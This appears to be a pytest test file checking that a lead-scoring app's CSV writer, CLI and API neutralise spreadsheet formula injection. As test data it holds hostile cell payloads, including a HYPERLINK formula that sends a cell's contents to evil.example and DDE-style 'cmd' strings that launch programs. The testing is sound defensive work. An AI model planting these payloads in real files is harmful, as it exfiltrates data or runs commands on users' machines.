"""CSV formula injection: every CSV written for people neutralises cells a spreadsheet
would run (``=``, ``+``, ``-``, ``@``, tab, CR) with a leading ``'``; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from tests.api.conftest import MODEL

from leadscore.api import create_app
from leadscore.cli import main
from leadscore.config import Settings
from leadscore.ingest.files import safe_cell, write_rows
from leadscore.service.keys import create_key

EVIL = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+33 6 12 34 56 78", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", EVIL)
def test_formula_cells_get_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-3.5", "+7", "-0.25", "1e5", "-2E-3", "", "plain", "Đà Nẵng 🚀",
                                  "a=b", "x-y", "me@example.com", "'=already"])
def test_numbers_and_harmless_text_are_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_write_rows_csv_neutralises_text_but_not_numbers(tmp_path: Path) -> None:
    out = tmp_path / "scores.csv"
    rows = [{"lead_id": text, "score": -3.5, "stage": "@Hot", "n": -4, "raw": {"=x": 1}} for text in EVIL]
    write_rows(out, ["lead_id", "score", "stage", "n", "raw"], rows)
    back = read_csv(out)
    assert [r["lead_id"] for r in back] == ["'" + t for t in EVIL]
    assert {r["score"] for r in back} == {"-3.50"}
    assert {r["n"] for r in back} == {"-4"}
    assert {r["stage"] for r in back} == {"'@Hot"}
    assert {r["raw"] for r in back} == {'{"=x":1}'}  # starts with '{': nothing to neutralise


@pytest.mark.parametrize("engine", ["python", "duckdb"])
def test_leadscore_score_output_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str], engine: str) -> None:
    (tmp_path / "model.yaml").write_text(MODEL, encoding="utf-8")
    (tmp_path / "leads.csv").write_text(
        'lead_id,title\n"=1+2",@evil\n"-5",VP\nL3,"=cmd|\' /C calc\'!A0"\n', encoding="utf-8")
    out = tmp_path / "out.csv"
    with pytest.raises(SystemExit) as exit_info:
        main(["score", "--model", str(tmp_path / "model.yaml"), "--leads", str(tmp_path / "leads.csv"),
              "--engine", engine, "--output", str(out), "--quiet"])
    assert not exit_info.value.code, capsys.readouterr().err
    back = {r["lead_id"]: r for r in read_csv(out)}
    assert set(back) == {"'=1+2", "-5", "L3"}  # "-5" is a number: left as it is
    assert back["-5"]["score"] == "10.00"


def test_segment_members_csv_from_the_api(tmp_path: Path) -> None:
    (tmp_path / "model.yaml").write_text(MODEL + "segments:\n  - {name: all-leads, min_score: 0}\n",
                                         encoding="utf-8")
    app = create_app(Settings(database_url=f"sqlite:///{tmp_path / 'a.db'}", scheduler=False,
                              model_file=tmp_path / "model.yaml"))
    with TestClient(app) as client:
        with app.state.ctx.store.write() as session:
            _, token = create_key(session, "admin", "admin", 0)
        client.headers["Authorization"] = f"Bearer {token}"
        for lead_id in ("=HYPERLINK(\"http://x\")", "@me", "-7", "Ánh"):
            response = client.post("/v1/leads", json={"lead_id": lead_id, "attributes": {"title": "vp"}})
            assert response.status_code == 201, response.text
        response = client.get("/v1/segments/all-leads/members", params={"format": "csv"})
        assert response.status_code == 200, response.text
        assert response.headers["content-disposition"] == 'attachment; filename="all-leads.csv"'
        ids = [r["lead_id"] for r in csv.DictReader(io.StringIO(response.text))]
        assert sorted(ids) == sorted(["'=HYPERLINK(\"http://x\")", "'@me", "-7", "Ánh"])
